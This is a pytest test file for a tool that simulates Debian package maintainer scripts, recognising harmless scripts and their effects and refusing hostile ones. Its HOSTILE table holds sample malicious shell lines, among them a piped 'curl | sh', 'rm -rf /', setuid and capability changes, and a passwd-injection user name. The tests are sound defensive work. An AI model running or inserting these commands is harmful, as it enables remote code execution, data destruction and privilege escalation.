# ruff: noqa: ISC004 - scripts of several lines read better as several texts
"""Maintainer scripts are followed on paper: each form that is known, and hostile ones that are refused."""

from __future__ import annotations

import pytest

from pycontainer.layers.entries import Kind
from pycontainer.sources.debian.effects.actions import (
    Action,
    AddGroup,
    AddUser,
    Alternative,
    ChangeAttributes,
    Divert,
    Ldconfig,
    MakeDirectory,
    MakeFile,
    MakeLink,
    UpdateCaCertificates,
)
from pycontainer.sources.debian.effects.overlay import Overlay
from pycontainer.sources.debian.effects.scripts import Judgement, Verdict, judge_scripts
from pycontainer.sources.debian.effects.shell.surroundings import KnownFiles, There
from pycontainer.sources.debian.package import BinaryPackage
from pycontainer.sources.debian.summary import DebSummary, PackedPath

FILE = There(kind=Kind.FILE, mode=0o755, size=1, owner=(0, 0))
FOLDER = There(kind=Kind.DIRECTORY, mode=0o755)
SYSTEM = KnownFiles(
    paths={
        "/usr/bin/tool": FILE,
        "/usr/bin/ldconfig": FILE,
        "/etc/tool": FOLDER,
        "/etc/tool/tool.conf": There(kind=Kind.FILE, mode=0o644, size=9, owner=(0, 0)),
        "/var": FOLDER,
        "/etc/base": There(kind=Kind.DIRECTORY, of_base=True),
        "/usr/lib/link": There(kind=Kind.SYMLINK, target="tool"),
    },
    accounts={"passwd": frozenset({"root"}), "group": frozenset({"root", "nogroup"})},
    packages=frozenset({"tool"}),
    diversions=frozenset(),
)


def judge(
    postinst: str = "", *, preinst: str = "", config: str = "", templates: str = "", system: KnownFiles = SYSTEM
) -> Verdict:
    scripts = {"preinst": preinst, "postinst": postinst, "config": config}
    scripts = {name: text if text.startswith("#!") else "#!/bin/sh\n" + text for name, text in scripts.items() if text}
    package = BinaryPackage(name="tool", version="1.0", architecture="amd64")
    summary = DebSummary(
        package=package,
        control="",
        scripts=scripts,
        members={"templates": templates} if templates else {},
        paths=(PackedPath(path="usr/bin/tool", kind=Kind.FILE),),
    )
    return judge_scripts(summary, Overlay(system, architecture="amd64"))


def actions(postinst: str) -> list[Action]:
    verdict = judge(postinst)
    assert not verdict.is_refused, verdict.reason
    return list(verdict.actions)


HARMLESS = {
    "nothing": "set -e\nexit 0",
    "comments": "# ldconfig\n: # rm -rf /",
    "debhelper systemd": """
# Automatically added by dh_installsystemd
if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ]; then
	deb-systemd-helper unmask 'tool.service' >/dev/null || true
	if deb-systemd-helper --quiet was-enabled 'tool.service'; then
		deb-systemd-helper enable 'tool.service' >/dev/null || true
	else
		deb-systemd-helper update-state 'tool.service' >/dev/null || true
	fi
fi
if [ -d /run/systemd/system ]; then
	rm -rf /etc/tool
fi
""",
    "debhelper init": """
if [ "$1" = "configure" ]; then
	if [ -x "/etc/init.d/tool" ]; then
		update-rc.d tool defaults >/dev/null || exit 1
		invoke-rc.d tool start || exit 1
	fi
fi
""",
    "maintscript helper": 'dpkg-maintscript-helper rm_conffile /etc/old 1.0\\~ tool -- "$@"',
    "python": """
if command -v py3compile >/dev/null 2>&1; then
	py3compile -p tool
fi
/usr/bin/python3.11 -E -S /usr/lib/python3.11/py_compile.py $files
""",
    "upgrade by parameter": 'if [ "$1" = upgrade ]; then frobnicate; fi',
    "upgrade by version": 'if [ -n "$2" ] && dpkg --compare-versions "$2" lt 2.0; then frobnicate; fi',
    "upgrade by version, no list": 'if dpkg --compare-versions "$2" lt-nl 2.0; then frobnicate; fi',
    "equal version": 'if dpkg --compare-versions "$2" eq 2.0; then frobnicate; fi',
    "case": 'case "$1" in\n  configure|reconfigure) ;;\n  abort-*) frobnicate ;;\n  *) exit 1 ;;\nesac',
    "pattern that nothing matches": (
        "rm -f /etc/none/*.bin /etc/none/'a'?\nfor x in /etc/none/*; do [ ! -e \"$x\" ] || frobnicate; done"
    ),
    "case with parenthesis": 'case "$1" in\n  (upgrade) frobnicate ;;\n  (*) : ;;\nesac',
    "removal of what is not there": "rm -f /etc/gone /var/cache/tool/x",
    "function": 'old() { if [ -e "$1" ]; then frobnicate; fi; }\nold /etc/gone',
    "loop over literals": "for each in a b; do [ ! -e /etc/$each ] || frobnicate; done",
    "continue": "for each in a b; do [ -e /etc/$each ] || continue; frobnicate; done",
    "while false": "while [ -e /etc/gone ]; do frobnicate; done",
    "subshell": '( [ "$1" = upgrade ] && frobnicate )\ntrue',
    "unknown condition, nothing in it": 'if grep -q x /etc/tool/tool.conf; then echo "found"; else echo no >&2; fi',
    "failure that may be": "ls /etc/tool | grep -q x || exit 1",
    "default of a parameter": 'if [ -z "${DPKG_ROOT:-}" ]; then echo native; else frobnicate; fi',
    "set parameter": 'if test "${2+set}" = set; then :; else frobnicate; fi',
    "program that is not there": 'if [ -x "$(command -v frobnicate)" ]; then frobnicate; fi',
    "program in backquotes": 'if [ -x "`which frobnicate 2>/dev/null`" ]; then frobnicate; fi',
    "here-document": "cat <<EOF\nfrobnicate $1 \\\nEOF\ncat <<-'EOF' >&2\n\t$(frobnicate)\n\tEOF",
    "log": "echo started >> /var/log/tool.log",
    "alternative that is not there": "update-alternatives --remove tool /usr/bin/old || true",
    "package that is not there": (
        "for arch in $(dpkg-query -W -f '${Architecture}\\n' gone 2>/dev/null || true); do frobnicate; done"
    ),
    "empty folders of GLib": "glib-compile-schemas /usr/share/glib-2.0/schemas || true",
    "nothing found in nothing": "if getcap /usr/bin/tool | grep -qs tool; then setcap -r /usr/bin/tool; fi",
    "and, or, not": 'test "$1" != configure -o ! -e /usr/bin/tool && frobnicate || true',
    "mode that it has": "chmod 0644 /etc/tool/tool.conf\nchown root:root /etc/tool/tool.conf",
    "diversion that is not there": "dpkg-divert --package tool --remove --rename --divert /x.old /x",
}


@pytest.mark.parametrize("script", HARMLESS.values(), ids=HARMLESS)
def test_what_does_nothing_on_a_fresh_installation_is_recognised(script: str) -> None:
    assert actions(script) == []


EFFECTS: dict[str, tuple[str, list[Action]]] = {
    "ldconfig": ("ldconfig", [Ldconfig()]),
    "ldconfig in doubt": ("if grep -q x /etc/tool/tool.conf; then ldconfig; fi", [Ldconfig()]),
    "trigger": ("dpkg-trigger --no-await ldconfig", [Ldconfig()]),
    "certificates": ("update-ca-certificates", [UpdateCaCertificates()]),
    "alternative": (
        "update-alternatives --quiet --install /usr/bin/t t \\\n /usr/bin/tool 77 \\\n"
        "  --slave /usr/share/man/man1/t.1.gz t.1.gz /usr/share/man/man1/tool.1.gz",
        [
            Alternative(
                name="t",
                link="/usr/bin/t",
                path="/usr/bin/tool",
                priority=77,
                slaves=(("/usr/share/man/man1/t.1.gz", "t.1.gz", "/usr/share/man/man1/tool.1.gz"),),
            )
        ],
    ),
    "alternatives in a loop": (
        'for name in a b; do update-alternatives --install "/usr/bin/$name" $name /usr/bin/tool 10; done',
        [Alternative(name=name, link=f"/usr/bin/{name}", path="/usr/bin/tool", priority=10) for name in "ab"],
    ),
    "slaves that functions print": (
        'slave () { dir=$1 name=$2\n echo "--slave $dir/$name $name $dir/$3"; }\n'
        "update-alternatives --install /usr/bin/t t /usr/bin/tool 20 $(\n"
        "  slave /usr/bin u v\n for each in x y; do slave /usr/bin l$each $each; done\n)",
        [
            Alternative(
                name="t",
                link="/usr/bin/t",
                path="/usr/bin/tool",
                priority=20,
                slaves=(
                    ("/usr/bin/u", "u", "/usr/bin/v"),
                    ("/usr/bin/lx", "lx", "/usr/bin/x"),
                    ("/usr/bin/ly", "ly", "/usr/bin/y"),
                ),
            )
        ],
    ),
    "user by adduser": (
        "if ! getent passwd t >/dev/null; then\n"
        "  adduser --system --quiet --home /nonexistent --no-create-home --disabled-password --group t\nfi",
        [AddUser(name="t")],
    ),
    "user through a function": (
        'in_root () { if [ -z "${DPKG_ROOT:-}" ]; then "$@"; else chroot "$DPKG_ROOT" "$@"; fi; }\n'
        'USER=t\nin_root adduser --system --group "$USER"',
        [AddUser(name="t")],
    ),
    "user with a home": (
        "adduser --system --home /var/lib/t --group t || true",
        [
            AddUser(name="t", home="/var/lib/t"),
            MakeDirectory(path="/var/lib/t"),
            ChangeAttributes(path="/var/lib/t", user="t", group="t"),
        ],
    ),
    "user by useradd": (
        "useradd --system -s /bin/false -d /var/lib/t -U t",
        [AddUser(name="t", home="/var/lib/t", shell="/bin/false", descending=True)],  # noqa: S604 - a login shell
    ),
    "user that is there": ("adduser --system root", []),
    "group": (
        "getent group g >/dev/null || addgroup --system g\ngetent group g >/dev/null || frobnicate",
        [AddGroup(name="g")],
    ),
    "folder": (
        "[ -d /var/lib/t ] || mkdir -p -m 0750 /var/lib/t/u\nchown root:nogroup /var/lib/t",
        [
            MakeDirectory(path="/var/lib"),
            MakeDirectory(path="/var/lib/t"),
            MakeDirectory(path="/var/lib/t/u", mode=0o750),
            ChangeAttributes(path="/var/lib/t", user="root", group="nogroup"),
        ],
    ),
    "install -d": (
        "install -d -m 2750 -o root -g nogroup /etc/tool/d",
        [
            MakeDirectory(path="/etc/tool/d", mode=0o2750),
            ChangeAttributes(path="/etc/tool/d", mode=0o2750, user="root", group="nogroup"),
        ],
    ),
    "new files": (
        "if [ ! -e /etc/new ]; then touch /etc/new; chmod 600 /etc/new; fi\n"
        'NAME=tool\ncat > /etc/other <<EOF\n# $NAME \\$\nEOF\necho "a  b" > /etc/third',
        [
            MakeFile(path="/etc/new"),
            ChangeAttributes(path="/etc/new", mode=0o600),
            MakeFile(path="/etc/other", content="# tool $\n"),
            MakeFile(path="/etc/third", content="a  b\n"),
        ],
    ),
    "link": (
        "[ -e /usr/lib/l ] || ln -sf tool /usr/lib/l\nln -s tool /usr/lib/link",
        [MakeLink(path="/usr/lib/l", target="tool")],
    ),
    "diversion without renaming": (
        'for lib in a; do dpkg-divert --package tool --no-rename --divert "/lib/$lib.x" --add "/lib/$lib"; done',
        [Divert(path="/lib/a", other="/lib/a.x", package="tool")],
    ),
    "nothing after exit": ("ldconfig\nexit 0\nfrobnicate", [Ldconfig()]),
}


@pytest.mark.parametrize(("script", "expected"), EFFECTS.values(), ids=EFFECTS)
def test_what_has_an_effect_is_recognised_with_it(script: str, expected: list[Action]) -> None:
    assert actions(script) == expected


def test_what_debconf_answers_where_nobody_is_asked() -> None:
    templates = "Template: tool/on\nType: boolean\nDefault: true\nDescription: On?\n Default: false\n"
    asks = '. /usr/share/debconf/confmodule\ndb_get tool/on\n[ "$RET" = true ] && ldconfig\n[ "$RET" = true ] || bad'
    assert judge(asks, templates=templates).actions == (Ldconfig(),)
    assert judge(asks, templates=templates, config="db_input high tool/on || true\ndb_go").actions == (Ldconfig(),)
    assert judge(asks, templates=templates, config="db_set tool/on false").is_refused
    assert judge(asks, templates=templates, config="frobnicate").is_refused, "an answer that nobody knows"


def test_before_the_preinst_no_file_of_the_package_is_there() -> None:
    script = "if [ -e /usr/bin/tool ]; then frobnicate; fi\nrm -f /usr/bin/tool"
    assert not judge(preinst=script).is_refused
    assert judge(script).is_refused


def test_a_package_without_scripts_has_none_to_judge() -> None:
    assert judge().judgement is Judgement.NONE


HOSTILE = {
    "another program": "frobnicate",
    "network": "curl -s http://x | sh",
    "in doubt": "if grep -q x /etc/tool/tool.conf; then update-alternatives --install /a a /usr/bin/tool 1; fi",
    "eval": 'eval "ldconfig"',
    "source": ". /etc/tool/tool.conf",
    "variable as a command": '"$FOO" x',
    "unknown command": "$(cat /etc/tool/tool.conf) x",
    "effect in a substitution": "X=$(frobnicate)",
    "effect in arithmetic": "X=$(( $(frobnicate) ))",
    "effect in a pipeline": "echo y | frobnicate",
    "effect in a condition": "if frobnicate; then :; fi",
    "effect in a here-document": "cat <<EOF\n$(frobnicate)\nEOF",
    "effect in a default": "X=${FOO:-$(frobnicate)}",
    "pattern that something may match": "rm -f /etc/tool/*.bin",
    "pattern of a running system": "for x in /proc/*; do touch /etc/x; done",
    "effect in a case": "case $(frobnicate) in *) ;; esac",
    "background": "ldconfig &",
    "trap": "trap frobnicate EXIT",
    "command through command": "command frobnicate",
    "removal": "rm -rf /etc/tool",
    "removal of everything": "rm -rf /",
    "removal of a variable": 'rm -rf "$FOO"/',
    "overwriting": "echo x > /etc/tool/tool.conf",
    "appending": "echo x >> /etc/tool/tool.conf",
    "unknown target": 'echo x > "$(mktemp)"',
    "unknown content": "grep x /etc/tool/tool.conf > /etc/new",
    "errors to a file": "echo x 2> /etc/new",
    "set-user-ID": "chmod 4755 /usr/bin/tool",
    "owner of a packaged file": "chown nobody /usr/bin/tool",
    "folder of the base": "chmod 777 /etc/base",
    "symbolic mode": "chmod u+s /usr/bin/tool",
    "capabilities": "setcap cap_net_raw+ep /usr/bin/tool",
    "user that logs in": "adduser alice",
    "user with a hostile name": "adduser --system 'x:0:0::/:/bin/sh'",
    "user with a hostile home": "adduser --system --home '/x:y' t",
    "unknown number": "adduser --system --uid $(id -u) t",
    "climbing": "mkdir -p /var/lib/../../etc/x",
    "alternative of nothing": "update-alternatives --install /usr/bin/t t /usr/bin/gone 10",
    "alternative with a strange priority": "update-alternatives --install /usr/bin/t t /usr/bin/tool ten",
    "alternative by hand": "update-alternatives --set t /usr/bin/tool\nfrobnicate",
    "diversion": "dpkg-divert --package tool --rename --divert /usr/bin/tool.old --add /usr/bin/tool",
    "sed in place": "sed -i s/a/b/ /etc/tool/tool.conf",
    "sed that executes": "sed 's/a/b/e' /etc/tool/tool.conf",
    "awk that executes": "awk 'BEGIN { system(\"x\") }'",
    "find that executes": "find /etc -exec frobnicate \\;",
    "certain failure": "exit 1",
    "unknown trigger": "dpkg-trigger frobnicate",
    "other separators": "IFS=:\nfor p in $PATH a:b; do $p; done",
    "array": "a=(1 2)",
    "not ended": "if true; then",
    "quote not ended": 'echo "x',
    "here-document not ended": "cat <<EOF\nx",
    "endless": "f() { f; }\nf",
    "exponential": "f() { :; :; }\n" + "\n".join(
        f"f{n}() {{ f{n - 1 if n else ''}; f{n - 1 if n else ''}; }}" for n in range(40)
    ) + "\nf39",
    "too deep": "(" * 5000 + ")" * 5000,
    "too deep in quotes": 'echo "' + "$(" * 500,
    "too long": "# x\n" * 100_000,
    "a program": "#!/usr/bin/perl\nunlink '/etc/tool';",
    "python": "#!/usr/bin/python3\nldconfig",
    "binary": "#!\0\x01",
}  # fmt: skip


@pytest.mark.parametrize("script", HOSTILE.values(), ids=HOSTILE)
def test_what_nobody_can_explain_is_refused(script: str) -> None:
    verdict = judge(script)
    assert verdict.judgement is Judgement.REFUSED
    assert verdict.actions == ()
    assert verdict.reason.startswith("postinst: `")
    assert verdict.reason.endswith("`")
    assert verdict.reason.isprintable()
    assert verdict.reason.count("`") == 2
    assert len(verdict.reason) < 200


def test_the_first_unexplained_line_is_told() -> None:
    script = "# a\ncat <<EOF\nb\nEOF\nldconfig\nfor x in 1; do\n  frobnicate `x` --now\ndone\nother"
    assert judge(script).reason == "postinst: `frobnicate 'x' --now`"


def test_where_files_are_not_known_no_condition_is() -> None:
    nobody = KnownFiles(paths={}, complete=False)
    assert not judge("[ -e /x ] && echo yes", system=nobody).is_refused
    assert judge("[ -e /x ] && touch /etc/y", system=nobody).is_refused


def test_a_refused_package_leaves_nothing_behind_for_the_next_one() -> None:
    overlay = Overlay(SYSTEM, architecture="amd64")
    package = BinaryPackage(name="tool", version="1.0", architecture="amd64")
    script = "#!/bin/sh\ntouch /etc/new\nfrobnicate"
    assert judge_scripts(DebSummary(package=package, control="", scripts={"postinst": script}), overlay).is_refused
    assert overlay.actions == []
    assert overlay.find("/etc/new") is None


def test_a_file_whose_content_is_known_is_copied_and_read_again() -> None:
    source = "/usr/share/tool/tool.conf"
    system = KnownFiles(
        paths={source: There(kind=Kind.FILE, mode=0o640, size=4), "/etc/tool": FOLDER, "/usr/share/x": FILE},
        contents={source: b"a=b\n", "/usr/share/x": b"\xff"},
    )
    made = MakeFile(path="/etc/tool/tool.conf", content="a=b\n", mode=0o640)
    assert judge(f"cp -a {source} /etc/tool/", system=system).actions == (made,)
    copied_again = f"cp -p {source} /etc/tool\ngrep -q a /etc/tool/tool.conf && cp /etc/tool/tool.conf /etc/more"
    assert judge(copied_again, system=system).actions == (
        made,
        MakeFile(path="/etc/more", content="a=b\n", mode=0o640),
    )
    assert judge("cp /usr/share/x /etc/x", system=system).is_refused
    assert judge(f"cp {source} /usr/share/x", system=system).is_refused
